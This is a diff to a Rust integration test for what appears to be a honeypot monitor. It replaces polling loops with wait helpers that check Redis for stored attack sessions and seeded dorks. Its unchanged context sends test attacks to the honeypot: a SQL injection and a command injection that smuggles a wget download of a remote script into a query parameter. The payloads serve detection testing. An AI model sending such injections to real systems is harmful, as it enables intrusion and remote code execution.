@@ -9,6 +9,7 @@ use std::{
     time::{Duration, Instant},
 };
 
+use flowmon_tests::wait::{wait_for, wait_until};
 use flowmon_tests::{
     agent::metric,
     process::TempDir,
@@ -252,15 +253,11 @@ fn sessions_store_their_evidence_and_dorks_reach_redis() {
     attacker.get(&snare, "/item.php?id=2%20UNION%20SELECT%201,2,3,4");
     attacker.get(&snare, "/ping.php?host=%3Bwget%20http://198.51.100.9/x.sh");
 
-    let deadline = Instant::now() + Duration::from_secs(20);
-    let stored = loop {
+    let stored = wait_for(Duration::from_secs(20), "the session stored", || {
         let members = redis.cli(&["ZRANGE", SENSOR, "0", "-1"]);
-        if let Some(member) = members.lines().find(|line| line.starts_with('{')) {
-            break serde_json::from_str::<Value>(member).unwrap();
-        }
-        assert!(Instant::now() < deadline, "no session stored: {members}");
-        std::thread::sleep(Duration::from_millis(100));
-    };
+        let member = members.lines().find(|line| line.starts_with('{'))?;
+        Some(serde_json::from_str::<Value>(member).unwrap())
+    });
     let emulation = &stored["emulation"];
     assert_eq!(
         emulation["commands"][0],
@@ -288,18 +285,14 @@ fn sessions_store_their_evidence_and_dorks_reach_redis() {
     assert_eq!(stored["attack_types"][1], "cmd_exec");
 
     // The shipped dorks seeded Tanner's set; the user dorks were learned.
-    let deadline = Instant::now() + Duration::from_secs(10);
     let shipped = flowmon::snare::dorks::shipped().count();
-    while redis
-        .cli(&["SCARD", flowmon::snare::dorks::DORKS_KEY])
-        .trim()
-        .parse::<usize>()
-        .unwrap_or(0)
-        < shipped
-    {
-        assert!(Instant::now() < deadline, "the dorks set was not seeded");
-        std::thread::sleep(Duration::from_millis(100));
-    }
+    wait_until(Duration::from_secs(10), "the dorks set seeded", || {
+        redis
+            .cli(&["SCARD", flowmon::snare::dorks::DORKS_KEY])
+            .trim()
+            .parse::<usize>()
+            .is_ok_and(|seeded| seeded >= shipped)
+    });
     let user: HashSet<String> = redis
         .cli(&["SMEMBERS", flowmon::snare::dorks::USER_DORKS_KEY])
         .lines()
